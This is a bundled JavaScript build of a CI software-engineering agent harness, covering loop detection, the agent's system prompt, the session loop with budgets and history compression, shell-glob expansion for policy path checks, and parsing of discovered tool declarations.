    minRepeatedResponseLength: 20,
};
const MAX_SCANNED_TEXT = 20_000;
/** Tracks one session. Feed it every tool call and every response text, in order. */
class LoopDetector {
    options;
    callKeys = [];
    callNames = [];
    lastResponseText = '';
    sameResponseCount = 0;
    detections = 0;
    constructor(options = {}) {
        this.options = { ...DEFAULT_LOOP_DETECTION, ...options };
    }
    get detectionCount() {
        return this.detections;
    }
    /** Records one tool call the model asked for. */
    recordToolCall(name, args) {
        if (!this.options.enabled)
            return undefined;
        this.callKeys.push(`${name}:${stableJson(args)}`);
        this.callNames.push(name);
        const keep = Math.max(this.options.identicalCallThreshold, this.options.maxCyclePeriod * this.options.cycleRepeatThreshold);
        if (this.callKeys.length > keep) {
            this.callKeys = this.callKeys.slice(-keep);
            this.callNames = this.callNames.slice(-keep);
        }
        const identical = this.checkIdenticalCalls(name);
        if (identical)
            return this.detected('identical_tool_calls', identical);
        const cycle = this.checkCycle();
        if (cycle)
            return this.detected('tool_call_cycle', cycle);
        return undefined;
    }
    /** Records the visible text of one model response (empty when it had none). */
    recordResponseText(text) {
        if (!this.options.enabled)
            return undefined;
        const chanting = findRepeatedChunk(text, this.options.textChunkSize, this.options.textRepeatThreshold);
        if (chanting !== undefined) {
            this.lastResponseText = '';
            this.sameResponseCount = 0;
            return this.detected('repeated_text', `the text "${chanting.trim()}" repeats many times`);
        }
        const normalized = text.trim().replace(/\s+/g, ' ');
        if (normalized.length < this.options.minRepeatedResponseLength) {
            this.lastResponseText = '';
            this.sameResponseCount = 0;
            return undefined;
        }
        this.sameResponseCount = normalized === this.lastResponseText ? this.sameResponseCount + 1 : 1;
        this.lastResponseText = normalized;
        if (this.sameResponseCount >= this.options.identicalResponseThreshold) {
            this.sameResponseCount = 0;
            this.lastResponseText = '';
            return this.detected('repeated_text', `the same response ("${abbreviate(normalized, 80)}") in ${this.options.identicalResponseThreshold} consecutive turns`);
        }
        return undefined;
    }
    checkIdenticalCalls(name) {
        const threshold = this.options.identicalCallThreshold;
        if (this.callKeys.length < threshold)
            return undefined;
        const recent = this.callKeys.slice(-threshold);
        if (recent.every((key) => key === recent[0])) {
            return `${threshold} identical calls of ${name} in a row`;
        }
        return undefined;
    }
    checkCycle() {
        const repeats = this.options.cycleRepeatThreshold;
        for (let period = 2; period <= this.options.maxCyclePeriod; period++) {
            const span = period * repeats;
            if (this.callKeys.length < span)
                continue;
            const recent = this.callKeys.slice(-span);
            const cycle = recent.slice(0, period);
            // A "cycle" of one call repeated is the identical-call case, counted by its own threshold.
            if (new Set(cycle).size < 2)
                continue;
            if (recent.every((key, i) => key === cycle[i % period])) {
                const names = this.callNames.slice(-span, -span + period).join(' → ');
                return `the same cycle of ${period} calls (${names}) repeated ${repeats} times`;
            }
        }
        return undefined;
    }
    detected(kind, detail) {
        this.detections++;
        // Start counting afresh: a second detection needs a new full pattern after the warning.
        this.callKeys = [];
        this.callNames = [];
        return { kind, detail, count: this.detections };
    }
}
/**
 * The text window that recurs `threshold` times close together (on average at most five windows
 * apart) with few distinct stretches between occurrences — a model chanting the same sentence,
 * not a list whose items share a prefix. Fenced code is skipped: repetitive code is normal.
 */
function findRepeatedChunk(text, chunkSize, threshold) {
    // A chant fills the end of a response; the tail is enough and keeps the scan cheap.
    const prose = text.replace(/```[\s\S]*?(```|$)/g, '\n').slice(-MAX_SCANNED_TEXT);
    if (prose.length < chunkSize * threshold)
        return undefined;
    const positions = new Map();
    for (let i = 0; i + chunkSize <= prose.length; i++) {
        const chunk = prose.slice(i, i + chunkSize);
        const seen = positions.get(chunk);
        if (!seen) {
            positions.set(chunk, [i]);
            continue;
        }
        // Overlapping windows are one occurrence, not two.
        const last = seen[seen.length - 1] ?? 0;
        if (i - last < chunkSize)
            continue;
        seen.push(i);
        if (seen.length < threshold)
            continue;
        const recent = seen.slice(-threshold);
        const first = recent[0] ?? 0;
        const averageGap = (i - first) / (threshold - 1);
        if (averageGap > chunkSize * 5)
            continue;
        const stretches = new Set();
        for (let k = 0; k + 1 < recent.length; k++) {
            stretches.add(prose.slice(recent[k], recent[k + 1]));
        }
        if (stretches.size <= Math.floor(threshold / 2))
            return chunk;
    }
    return undefined;
}
/** JSON with object keys sorted, so `{a, b}` and `{b, a}` are the same call. */
function stableJson(value) {
    return JSON.stringify(sortKeys(value));
}
function sortKeys(value) {
    if (Array.isArray(value))
        return value.map(sortKeys);
    if (typeof value !== 'object' || value === null)
        return value;
    const sorted = {};
    for (const key of Object.keys(value).sort()) {
        sorted[key] = sortKeys(value[key]);
    }
    return sorted;
}
function abbreviate(text, max) {
    return text.length <= max ? text : `${text.slice(0, max - 1)}…`;
}

// EXTERNAL MODULE: ./src/agent/scheduler.ts
var agent_scheduler = __webpack_require__(53564);
;// CONCATENATED MODULE: ./src/agent/system-prompt.ts

/** The core prompt, without context files. */
function buildCorePrompt(options) {
    const tools = options.toolNames && options.toolNames.length > 0 ? options.toolNames : undefined;
    const toolLine = tools
        ? `\nThe tools available to you are: ${tools.map((name) => `\`${name}\``).join(', ')}.`
        : '';
    return `You are a software engineering agent running non-interactively in a CI job. You work in a checked-out repository at \`${options.workspaceRoot}\` and complete the task you are given using the tools provided.${toolLine}

# How you work

- **Act autonomously.** Nobody is watching this run and nobody can answer questions. Never ask for confirmation or clarification: when something is ambiguous, choose the most reasonable interpretation, state the assumption in your final summary, and carry on.
- **Inspect before you change.** Use the tools to read the relevant code, configuration and tests before editing. Never guess at file contents, APIs or paths; check them. Use absolute paths inside the workspace.
- **Follow the project's conventions.** Match the existing style, structure, naming, formatting, typing and libraries of the surrounding code. Do not add dependencies the project does not already use unless the task requires it. Read any project instructions (such as GEMINI.md or CONTRIBUTING files) that apply.
- **Make minimal, focused changes.** Change only what the task needs. Do not reformat unrelated code, rename things for taste, or fix unrelated issues — mention them in your summary instead. Add comments only where they explain why.
- **Verify your work.** When the project has tests, a linter or a type checker and you are allowed to run them, run the relevant ones after changing code and fix what you broke. If you cannot run them, say so.
- **Do not publish.** Never commit, push, create branches, tags or pull requests, or call GitHub in any other way, and do not try to obtain credentials. Trusted code reviews and publishes your changes to the workspace after you finish.
- **Tool calls may be denied.** A policy decides which tool calls may run. When a call is denied, read the reason given, do not retry the same call, and adapt: use a permitted tool or approach, or explain in your summary what you could not do and why.
- **Stay in the workspace.** Do not read or change files outside it, and do not run long-lived background processes that outlive the job.
- **Be efficient.** Prefer targeted searches and reads over reading everything. Avoid repeating a call that already gave you an answer.

# Finishing

When the task is done — or cannot be done — stop calling tools and reply with a concise summary for the person who requested the work: what you changed (files and the gist of each change), how you verified it, and anything left undone, uncertain or worth a reviewer's attention. Use Markdown. Keep it short.`;
}
/**
 * The system instruction sent with every request: the core prompt, then the context files (each
 * already wrapped in its `--- Context from: … ---` markers), separated by a rule.
 */
function buildSystemInstruction(corePrompt, contextText) {
    const context = contextText.trim();
    return context === '' ? corePrompt : `${corePrompt}\n\n---\n\n${context}`;
}
/** Reads the context files and assembles the session's system instruction. */
async function loadSystemInstruction(options) {
    const context = await loadContextFiles({
        workspaceRoot: options.workspaceRoot,
        fileNames: options.contextFileNames,
        ...(options.contextDirectory === undefined
            ? {}
            : { contextDirectory: options.contextDirectory }),
        ...(options.extensionContextFiles === undefined
            ? {}
            : { extensionFiles: options.extensionContextFiles }),
        ...(options.userMemoryPath === undefined ? {} : { userMemoryPath: options.userMemoryPath }),
        logger: options.logger,
    });
    if (context.files.length > 0) {
        options.logger.info(`Loaded context from ${context.files.map((file) => file.displayPath).join(', ')}`);
    }
    const core = options.corePrompt ??
        buildCorePrompt({ workspaceRoot: options.workspaceRoot, toolNames: options.toolNames });
    return buildSystemInstruction(core, context.text);
}

;// CONCATENATED MODULE: ./src/agent/session.ts
/**
 * One agent session: a prompt in, the model and the tools in a loop, events out, until the model
 * answers in text or a budget, a block, an error, a loop or the caller stops it.
 *
 * Request shape (the Gemini CLI's): the system instruction is set once (core prompt + context
 * files + memory); the history starts with the environment message and the model's
 * acknowledgement, then the prompt. Every function call the model makes is answered, in order,
 * by one user content of function responses before the next request.
 */


















/** How long running tools may take to stop after the session is cancelled or times out. */
const TOOL_STOP_GRACE_MS = 5000;
const LOOP_NOTE = (detail) => `System note: you are repeating yourself (${detail}). Repeating the same actions will not make progress. Stop, reconsider what you have learned so far, and take a different approach. If you are blocked, say what is blocking you in a short summary and finish.`;
class AgentSession {
    options;
    sessionId;
    /** The model requests go to: the chosen one, or the fallback once it took over. */
    model;
    fellBack = false;
    workspaceRoot;
    logger;
    budgets;
    compression;
    contextFileNames;
    now;
    loopDetector;
    scheduler;
    started = false;
    finished = false;
    turn = 0;
    usage = (0,events/* emptyUsage */.ly)();
    texts = [];
    chat;
    lastPromptTokens;
    compressionFailed = false;
    pendingNote;
    budget;
    spend;
    /** Consecutive answers without a call while a result is still owed (see `completion`). */
    answersWithoutResult = 0;
    constructor(options) {
        this.options = options;
        this.sessionId = options.sessionId ?? (0,external_node_crypto_.randomUUID)();
        this.model = options.model;
        this.workspaceRoot = external_node_path_default().resolve(options.workspaceRoot);
        this.logger = options.logger ?? platform_logger/* silentLogger */.qq;
        this.now = options.now ?? Date.now;
        // Configuration problems surface here, before anything runs.
        this.budgets = (0,budgets/* resolveBudgets */.N1)(options.budgets);
        this.compression = resolveCompression(options.model, options.compression);
        this.contextFileNames = normalizeContextFileNames(options.contextFileName);
        this.loopDetector = new LoopDetector(options.loopDetection);
        this.spend = options.spend ?? new budgets/* RunSpend */.Eo();
        const schedulerOptions = {
            registry: options.registry,
            confirmer: options.confirmer,
            logger: this.logger,
            onUpdate: (call) => {
                this.emit({ kind: 'tool_call_update', tool_call: call });
                // The todo list gets its own event so reporters need not know which tool keeps it.
                if (call.status === 'SUCCEEDED' && call.output && 'structured_data' in call.output) {
                    this.emit({ kind: 'todo_update', todos: call.output.structured_data.todos });
                }
            },
            now: this.now,
            ...(options.liveOutputIntervalMs === undefined
                ? {}
                : { liveOutputIntervalMs: options.liveOutputIntervalMs }),
        };
        this.scheduler = options.createScheduler
            ? options.createScheduler(schedulerOptions)
            : new agent_scheduler/* ToolScheduler */.QN(schedulerOptions);
    }
    /**
     * Emits an event of a subagent's session, nested under this session's call that runs it. Like
     * every event of this session, none is emitted once it has ended.
     */
    emitNested(parentCallId, agentName, event) {
        this.emit({
            kind: 'subagent_event',
            parent_call_id: parentCallId,
            agent_name: agentName,
            event,
        });
    }
    /** Emits a warning into the event stream (e.g. from the model layer's retry hook). */
    reportWarning(code, message) {
        this.emit({ kind: 'warning', code, message });
    }
    /** Runs the prompt to the end. Never throws for model, tool or budget problems. */
    async run(prompt, options = {}) {
        if (this.started)
            throw new Error('An AgentSession runs once; create a new one per prompt.');
        this.started = true;
        const startedAt = this.now();
        this.budget = new budgets/* BudgetTracker */.ak(this.budgets, startedAt, this.now);
        this.emitState('submitted');
        this.emitState('working');
        const controller = new AbortController();
        let abortReason;
        const abort = (reason) => {
            abortReason ??= reason;
            // The reason is what running tools report to the model as why they were cancelled.
            controller.abort(reason === 'timeout'
                ? `the session's time limit (${(0,budgets/* formatDuration */.a3)(this.budgets.timeoutMs)}) was reached`
                : 'the session was cancelled');
        };
        const onCallerAbort = () => {
            abort('cancelled');
        };
        if (options.signal?.aborted)
            abort('cancelled');
        options.signal?.addEventListener('abort', onCallerAbort, { once: true });
        const schedule = this.options.scheduleTimeout ?? budgets/* defaultScheduleTimeout */.A0;
        const stopTimer = schedule(() => {
            abort('timeout');
        }, this.budgets.timeoutMs);
        const unsubscribe = this.options.modelCalls?.subscribe((call) => {
            this.emit({ kind: 'model_call', call: toModelCallData(call) });
        });
        let outcome;
        try {
            outcome = await this.loop(prompt, controller.signal, () => abortReason);
        }
        catch (error) {
            this.logger.error(`The agent session failed unexpectedly: ${describeError(error)}`);
            outcome = { reason: 'internal_error', message: `Internal error: ${(0,platform_errors/* errorMessage */.gJ)(error)}` };
        }
        finally {
            stopTimer();
            unsubscribe?.();
            options.signal?.removeEventListener('abort', onCallerAbort);
        }
        const completed = outcome.reason === 'completed';
        this.emitState(completed ? 'completed' : 'failed', {
            final: true,
            reason: outcome.reason,
            ...(outcome.message === undefined ? {} : { message: outcome.message }),
        });
        this.finished = true;
        return {
            sessionId: this.sessionId,
            reason: outcome.reason,
            response: this.texts.join('\n\n'),
            turns: this.turn,
            toolCalls: this.budget.toolCalls,
            usage: { ...this.usage },
            durationMs: this.now() - startedAt,
            ...(completed || outcome.message === undefined ? {} : { error: outcome.message }),
            history: this.chat?.getHistory() ?? [],
        };
    }
    async loop(prompt, signal, abortReason) {
        const budget = this.requireBudget();
        const stopped = () => {
            if (!signal.aborted)
                return undefined;
            return abortReason() === 'timeout'
                ? budget.timeoutStop()
                : { reason: 'cancelled', message: 'The session was cancelled.' };
        };
        const chat = await this.startChat(prompt);
        for (;;) {
            const beforeRequest = stopped() ?? budget.beforeRequest();
            if (beforeRequest)
                return beforeRequest;
            await this.maybeCompress(chat, signal);
            const afterCompression = stopped();
            if (afterCompression)
                return afterCompression;
            this.turn++;
            budget.turns = this.turn;
            let response;
            try {
                response = await this.send(chat, signal);
            }
            catch (error) {
                return stopped() ?? describeModelError(error, this.currentChoice());
            }
            this.reportResponse(response);
            const overBudget = budget.afterResponse(this.spend.tokens);
            if (overBudget)
                return overBudget;
            const blocked = blockedMessage(response);
            if (blocked)
                return { reason: 'model_blocked', message: blocked };
            if (response.finishReason === node/* FinishReason */.eD.MAX_TOKENS) {
                this.emit({
                    kind: 'warning',
                    code: 'max_tokens',
                    message: `The model's response was cut off at its output token limit (turn ${this.turn}).`,
                });
            }
            const textLoop = this.loopDetector.recordResponseText(response.text);
            if (response.functionCalls.length === 0) {
                if (textLoop) {
                    const loopOutcome = this.onLoop(textLoop);
                    if (loopOutcome)
                        return loopOutcome;
                    chat.addUserContent(userText(this.takeNote() ?? ''));
                    continue;
                }
                const completion = this.options.completion;
                if (completion === undefined)
                    return this.finishWithoutCalls(response);
                if (++this.answersWithoutResult >= 2)
                    return noResultOutcome();
                chat.addUserContent(userText(completion.reminder));
                continue;
            }
            this.answersWithoutResult = 0;
            const requests = response.functionCalls.map((call, index) => this.toRequest(call, index));
            const loops = [
                textLoop,
                ...requests.map((r) => this.loopDetector.recordToolCall(r.name, r.args)),
            ];
            for (const detection of loops) {
                const loopOutcome = detection && this.onLoop(detection);
                if (loopOutcome)
                    return loopOutcome;
            }
            let toolOutcome;
            try {
                // Tools get a moment to stop and report cancelled, so their answers reach the history.
                toolOutcome = await (0,budgets/* untilAborted */.Eu)(this.runTools(chat, requests, signal), signal, {
                    graceMs: TOOL_STOP_GRACE_MS,
                });
            }
            catch (error) {
                const aborted = stopped();
                if (aborted)
                    return aborted;
                throw error;
            }
            const afterTools = toolOutcome ?? stopped();
            if (afterTools)
                return afterTools;
            if (this.options.completion?.isComplete())
                return { reason: 'completed' };
        }
    }
    /** One request; when the model is not found or out of quota, once more on the fallback model. */
    async send(chat, signal) {
        const request = () => (0,budgets/* untilAborted */.Eu)(chat.send({
            promptId: this.promptId(),
            signal,
            declarations: this.options.registry.declarations(this.options.declarationFilter),
        }), signal, { graceMs: 0 });
        try {
            return await request();
        }
        catch (error) {
            const fallback = this.options.fallbackModel;
            const eligible = error instanceof errors/* ModelRequestError */.j && (error.isModelNotFound || error.isQuotaExhausted);
            if (signal.aborted || !eligible || fallback === undefined || this.fellBack)
                throw error;
            this.emit({
                kind: 'warning',
                code: 'model_fallback',
                message: (0,model_choice/* fallbackNotice */.Rv)(this.currentChoice() ?? { name: this.model }, fallback, error),
            });
            this.fellBack = true;
            this.model = fallback.name;
            chat.switchModel(fallback.name, this.generationConfig(fallback.name));
            this.emitState('working');
            return request();
        }
    }
    /** Where the model requests go to now was chosen, when the caller said. */
    currentChoice() {
        return this.fellBack ? this.options.fallbackModel : this.options.modelChoice;
    }
    /** The model table's settings for `model`, with the caller's over them. */
    generationConfig(model) {
        return { ...(0,model_table/* generationConfigFor */.uQ)(model), ...this.options.generationConfig };
    }
    /** Builds the system instruction and the seeded (or continued) history, then adds the prompt. */
    async startChat(prompt) {
        const systemInstruction = await loadSystemInstruction({
            workspaceRoot: this.workspaceRoot,
            contextFileNames: this.contextFileNames,
            ...(this.options.contextDirectory === undefined
                ? {}
                : { contextDirectory: this.options.contextDirectory }),
            ...(this.options.extensionContextFiles === undefined
                ? {}
                : { extensionContextFiles: this.options.extensionContextFiles }),
            ...(this.options.userMemoryPath === undefined
                ? {}
                : { userMemoryPath: this.options.userMemoryPath }),
            toolNames: this.options.registry.names(),
            ...(this.options.corePrompt === undefined ? {} : { corePrompt: this.options.corePrompt }),
            logger: this.logger,
        });
        const earlier = this.options.history;
        const seeded = earlier === undefined
            ? initialHistory(await buildEnvironmentContext({
                ...this.options.environment,
                workspaceRoot: this.workspaceRoot,
                now: this.now,
            }))
            : [...earlier];
        const chat = new Chat({
            generator: this.options.contentGenerator,
            model: this.model,
            systemInstruction,
            generationConfig: this.generationConfig(this.model),
            streaming: this.options.streaming ?? true,
            history: [...seeded, userText(prompt)],
        });
        this.chat = chat;
        return chat;
    }
    /** Emits what the response showed: thoughts, text and token usage. */
    reportResponse(response) {
        for (const item of response.items) {
            if (item.kind === 'thought')
                this.emit({ kind: 'thought', thought: item.thought });
            else
                this.emit({ kind: 'text_content', text: item.text });
        }
        const text = response.text.trim();
        if (text !== '')
            this.texts.push(text);
        this.recordUsage(response.usage);
    }
    recordUsage(metadata) {
        const usage = (0,budgets/* toTokenUsage */.qI)(metadata);
        this.usage = (0,budgets/* addUsage */.vk)(this.usage, usage);
        this.spend.tokens += usage.total_tokens;
        if (metadata?.promptTokenCount !== undefined)
            this.lastPromptTokens = metadata.promptTokenCount;
        this.emit({ kind: 'token_usage', usage, total: { ...this.usage } });
    }
    finishWithoutCalls(response) {
        const { error, warnings } = judgeFinalAnswer(response);
        if (error !== undefined)
            return { reason: 'model_error', message: error };
        for (const warning of warnings)
            this.emit({ kind: 'warning', ...warning });
        return { reason: 'completed' };
    }
    /** Runs the calls within budget, answers every call, and says whether the session must end. */
    async runTools(chat, requests, signal) {
        const budget = this.requireBudget();
        const allowed = budget.toolCallsAllowed(requests.length);
        const toRun = requests.slice(0, allowed);
        const overBudget = requests.slice(allowed);
        budget.toolCalls += toRun.length;
        const completed = toRun.length > 0 ? await this.scheduler.run(toRun, signal) : [];
        const cancelled = overBudget.map((request) => this.cancelForBudget(request));
        let answer = (0,agent_scheduler/* toFunctionResponseContent */.qg)([...completed, ...cancelled]);
        const note = this.takeNote();
        if (note !== undefined)
            answer = withAppendedText(answer, note);
        chat.addUserContent(answer);
        const fatal = completed.find((call) => call.fatal === true || call.result.error?.type === 'no_space_left');
        if (fatal) {
            return {
                reason: 'fatal_tool_error',
                message: `Stopped: ${fatal.request.name} failed because the disk is full (${fatal.result.error?.message ?? 'no space left'}).`,
            };
        }
        if (overBudget.length > 0 && !signal.aborted)
            return budget.toolCallStop();
        return undefined;
    }
    cancelForBudget(request) {
        const cancelled = (0,budgets/* cancelledForBudget */.CL)(request, this.options.registry.get(request.name), this.budgets.maxToolCalls);
        this.emit({ kind: 'tool_call_update', tool_call: cancelled.update });
        return cancelled.completed;
    }
    /** First detection: warn and queue a note for the model. Second: end the session. */
    onLoop(detection) {
        if (detection.count >= 2) {
            return {
                reason: 'loop_detected',
                message: `Stopped: the model kept repeating itself after a warning (${detection.detail}).`,
            };
        }
        this.emit({
            kind: 'warning',
            code: 'loop_detected',
            message: `Possible loop: ${detection.detail}. The model was told to change its approach.`,
        });
        this.pendingNote = LOOP_NOTE(detection.detail);
        return undefined;
    }
    takeNote() {
        const note = this.pendingNote;
        this.pendingNote = undefined;
        return note;
    }
    async maybeCompress(chat, signal) {
        const promptTokens = this.lastPromptTokens;
        if (this.compressionFailed || promptTokens === undefined)
            return;
        if (!needsCompression(promptTokens, this.compression))
            return;
        try {
            const result = await compressHistory({
                history: chat.getHistory(),
                generator: this.options.contentGenerator,
                model: this.model,
                // The summary belongs to the request it prepares.
                promptId: this.promptId(this.turn + 1),
                signal,
                preserveFraction: this.compression.preserveFraction,
                tokensBefore: promptTokens,
            });
            chat.setHistory(result.history);
            this.lastPromptTokens = undefined;
            this.emit({
                kind: 'chat_compressed',
                tokens_before: result.tokensBefore,
                tokens_after_estimate: result.tokensAfterEstimate,
            });
            this.recordUsage(result.usage);
        }
        catch (error) {
            if (signal.aborted)
                return;
            // Without compression the next request may still fit; trying again every turn would only
            // spend tokens on the same failure.
            this.compressionFailed = true;
            this.logger.warning(`Chat compression failed; continuing without it: ${(0,platform_errors/* errorMessage */.gJ)(error)}`);
        }
    }
    toRequest(call, index) {
        const name = call.name ?? 'undefined_tool_name';
        return {
            callId: call.id ?? `${name}-${this.turn}-${index}`,
            name,
            args: call.args ?? {},
        };
    }
    promptId(turn = this.turn) {
        return (0,events/* promptIdFor */.NG)(this.sessionId, turn);
    }
    requireBudget() {
        if (!this.budget)
            throw new Error('The session has not started.');
        return this.budget;
    }
    emitState(state, extra = {}) {
        this.emit({ kind: 'state_change', state, final: false, model: this.model, ...extra });
    }
    emit(event) {
        const listener = this.options.onEvent;
        // The final state change is the last event: a straggler (a tool that ignored cancellation)
        // must not report after it.
        if (!listener || this.finished)
            return;
        const full = {
            session_id: this.sessionId,
            timestamp: new Date(this.now()).toISOString(),
            turn: this.turn,
            ...event,
        };
        try {
            listener(full);
        }
        catch (error) {
            // A broken reporter must not end the agent's work.
            this.logger.warning(`An event listener failed: ${(0,platform_errors/* errorMessage */.gJ)(error)}`);
        }
    }
}
function toModelCallData(call) {
    return {
        model: call.model,
        prompt_id: call.promptId,
        started_at: new Date(call.startedAt).toISOString(),
        duration_ms: call.durationMs,
        ...(call.responseModel === undefined ? {} : { response_model: call.responseModel }),
        finish_reasons: call.finishReasons,
        ...(call.usage === undefined ? {} : { usage: (0,budgets/* toTokenUsage */.qI)(call.usage) }),
        ...(call.error === undefined
            ? {}
            : {
                error: {
                    message: call.error.message,
                    type: call.error.kind,
                    ...(call.error.status === undefined ? {} : { http_status: call.error.status }),
                },
            }),
    };
}
function noResultOutcome() {
    return {
        reason: 'no_complete_task',
        message: 'The agent stopped calling tools without handing in its result with complete_task, after a reminder.',
    };
}
function describeError(error) {
    return error instanceof Error && error.stack ? error.stack : (0,platform_errors/* errorMessage */.gJ)(error);
}

// EXTERNAL MODULE: ./src/policy/policy-confirmer.ts
var policy_confirmer = __webpack_require__(52468);
// EXTERNAL MODULE: ./src/tools/builtin-tools.ts + 24 modules
var builtin_tools = __webpack_require__(39271);
// EXTERNAL MODULE: ./src/tools/registry.ts
var tools_registry = __webpack_require__(64988);
// EXTERNAL MODULE: ./node_modules/picomatch/index.js
var picomatch = __webpack_require__(14006);
var picomatch_default = /*#__PURE__*/__webpack_require__.n(picomatch);
;// CONCATENATED MODULE: ./src/tools/shell-glob.ts
/**
 * What bash makes of a glob in a command's arguments, found before the command runs, so the
 * policy can check every path it will open (`cat *.txt` where one `.txt` is a symlink out of the
 * workspace). Bash's defaults for `bash -c`: `*`, `?` and `[…]` match within one path segment,
 * a leading `.` only when the pattern's segment starts with one (and then `.` and `..` too, as
 * in bash before 5.2), no `**` recursion, no extended globs, and a pattern that matches nothing
 * is passed on as written.
 */


/** More matches than this and the command is refused rather than checked path by path. */
const MAX_GLOB_MATCHES = 1000;
/** Directory entries read while expanding; beyond this the pattern is not expanded. */
const MAX_ENTRIES_READ = 20_000;
const GLOB_CHARACTERS = /[*?[]/u;
/**
 * The paths an absolute pattern matches, each written as the kernel will look it up (segments
 * joined, `..` kept), or undefined when there are more than `MAX_GLOB_MATCHES` or expanding would
 * read too much. A pattern without matches gives its own text: bash passes it on unchanged.
 */
function expandShellGlob(absolutePattern) {
    const segments = absolutePattern.split('/').filter((segment) => segment !== '');
    let current = ['/'];
    let entriesRead = 0;
    for (const segment of segments) {
        const next = [];
        for (const directory of current) {
            if (!GLOB_CHARACTERS.test(segment)) {
                next.push(join(directory, segment));
                continue;
            }
            const names = listDirectory(directory);
            entriesRead += names.length;
            if (entriesRead > MAX_ENTRIES_READ)
                return undefined;
            const hidden = segment.startsWith('.');
            const candidates = hidden ? ['.', '..', ...names] : names;
            const matches = picomatch_default()(segment, { dot: hidden, nobrace: true, noextglob: true });
            for (const name of candidates)
                if (matches(name))
                    next.push(join(directory, name));
        }
        if (next.length > MAX_GLOB_MATCHES)
            return undefined;
        current = next;
    }
    return current.length === 0 ? [absolutePattern] : current;
}
function join(directory, name) {
    return directory.endsWith('/') ? `${directory}${name}` : `${directory}/${name}`;
}
function listDirectory(directory) {
    try {
        return (0,external_node_fs_.readdirSync)(directory);
    }
    catch {
        // Not a directory, missing, or not readable: bash finds nothing there either.
        return [];
    }
}

// EXTERNAL MODULE: ./src/tools/tool-processes.ts
var tool_processes = __webpack_require__(90161);
// EXTERNAL MODULE: ./src/platform/redaction.ts
var redaction = __webpack_require__(63178);
;// CONCATENATED MODULE: ./src/tools/discovered/declarations.ts
/**
 * What a discovery command prints: a JSON array whose items are function declarations
 * (`{name, description, parametersJsonSchema}`) or tool wrappers holding them
 * (`{functionDeclarations: [...]}`, also spelled `function_declarations`), as the Gemini CLI
 * reads it. A declaration the model could not call is left out with the reason, so one bad entry
 * does not cost the others.
 */
/**
 * A function name the Gemini API accepts and that works in policy rules: a letter or `_` first,
 * then letters, digits, `_`, `.` and `-`, at most 63 characters (as for MCP tools).
 */
const TOOL_NAME = /^[A-Za-z_][A-Za-z0-9_.-]{0,62}$/;
/** Declared without parameters: a call takes none. */
const NO_PARAMETERS = { type: 'object', properties: {} };
/** The declarations in `value` (already parsed JSON); throws when it is not an array. */
function readDeclarations(value) {
    if (!Array.isArray(value)) {
        throw new TypeError(`expected a JSON array of function declarations (or of {"functionDeclarations": [...]} tools); got ${describeJson(value)}.`);
    }
    const found = [];
    const skipped = [];
    value.forEach((item, index) => {
        const where = `item ${index}`;
        if (!isObject(item)) {
            skipped.push(`${where} is ${describeJson(item)}, not a function declaration.`);
            return;
        }
        const wrapped = item.functionDeclarations ?? item.function_declarations;
        if (wrapped !== undefined) {
            if (!Array.isArray(wrapped)) {
                skipped.push(`${where}: "functionDeclarations" is ${describeJson(wrapped)}, not a list.`);
                return;
            }
            wrapped.forEach((entry, inner) => {
                found.push({ entry, where: `${where}, declaration ${inner}` });
            });
            return;
        }
        found.push({ entry: item, where });
    });
    const declarations = [];
    const names = new Set();
    for (const { entry, where } of found) {
        const result = readDeclaration(entry);
        if (typeof result === 'string') {
            skipped.push(`${where}: ${result}`);
        }
        else if (names.has(result.name)) {
            skipped.push(`${where}: "${result.name}" is declared more than once; the first is kept.`);
        }
        else {
            names.add(result.name);
            declarations.push(result);
        }
    }
    return { declarations, skipped };
}
/** The declaration, or why it cannot be offered. */
function readDeclaration(entry) {
    if (!isObject(entry))
        return `${describeJson(entry)} is not a function declaration.`;
    const { name } = entry;
    if (typeof name !== 'string' || name === '') {
        return 'a declaration without a "name" is left out.';
    }
    if (!TOOL_NAME.test(name)) {
        return `"${name}" is not a usable tool name (a letter or "_" first, then letters, digits, "_", "." or "-"; at most 63 characters).`;
    }
    const schema = entry.parametersJsonSchema ?? entry.parameters;
    if (schema !== undefined && !isObject(schema)) {
        const key = entry.parametersJsonSchema === undefined ? 'parameters' : 'parametersJsonSchema';
        return `"${name}" has "${key}" that is ${describeJson(schema)}, not a JSON schema object.`;
    }
    return {
        name,
        description: typeof entry.description === 'string' ? entry.description : '',
        parametersJsonSchema: schema === undefined
            ? NO_PARAMETERS
            : entry.parametersJsonSchema === undefined
                ? lowerCaseTypes(schema)
                : schema,
    };
}
/**
 * `parameters` may use the Gemini API's `Type` names (`OBJECT`, `STRING`); as a JSON schema they
 * are lower case. Only string values of `type` keys change; property names stay as they are.
 */
function lowerCaseTypes(schema) {
    const visit = (value, key) => {
        if (key === 'type' && typeof value === 'string')
            return value.toLowerCase();
        if (Array.isArray(value))
            return value.map((item) => visit(item, undefined));
        if (!isObject(value))
            return value;
        // Under `properties` the keys are property names: a property called "type" is a schema.
        const keysAreNames = key === 'properties' || key === '$defs' || key === 'definitions';
        return Object.fromEntries(Object.entries(value).map(([name, inner]) => [
            name,
            visit(inner, keysAreNames ? undefined : name),
        ]));
    };
    return visit(schema, undefined);
}
function isObject(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
/** `a string`, `null`, `a list`, … for messages. */
function describeJson(value) {
    if (value === null)
        return 'null';
    if (Array.isArray(value))
        return 'a list';
    if (typeof value === 'object')
        return 'an object';
    return `a ${typeof value}`;
}

// EXTERNAL MODULE: ./src/tools/shell-output.ts
var shell_output = __webpack_require__(63819);
// EXTERNAL MODULE: ./src/tools/tool-types.ts
var tool_types = __webpack_require__(29285);
// EXTERNAL MODULE: ./src/platform/process-group.ts
var process_group = __webpack_require__(70192);
;// CONCATENATED MODULE: ./src/tools/discovered/tool-command.ts



/** How long processes get after SIGTERM before SIGKILL (as the shell tool). */
const KILL_GRACE_MS = 2000;
/**
 * Once the command has exited, output it wrote is already in the pipes; they are read until they
 * close or this long. A background process holding a pipe open must not hold the call.
 */
const DRAIN_MAX_MS = 1000;
async function runToolCommand(options) {
    if (options.signal?.aborted === true)
        return notStarted(undefined, 'aborted');
    const { processes } = options;
    let program;
    try {
        program = await processes.prepare({
            // `--norc`: stdin is a socket pair, which bash takes for a remote login and would read
            // ~/.bashrc for (whatever the user's shell start-up prints or changes).
            argv: ['bash', '--norc', '-c', options.command, 'bash', ...(options.args ?? [])],
            env: processes.environment(),
            cwd: processes.workspaceRoot,
        });
    }
    catch (error) {
        // A sandbox that cannot take the command fails it: it never runs unconfined instead.
        return notStarted(error);
    }
    return new Promise((resolve) => {
        let child;
        try {
            const [file = 'bash', ...args] = program.argv;
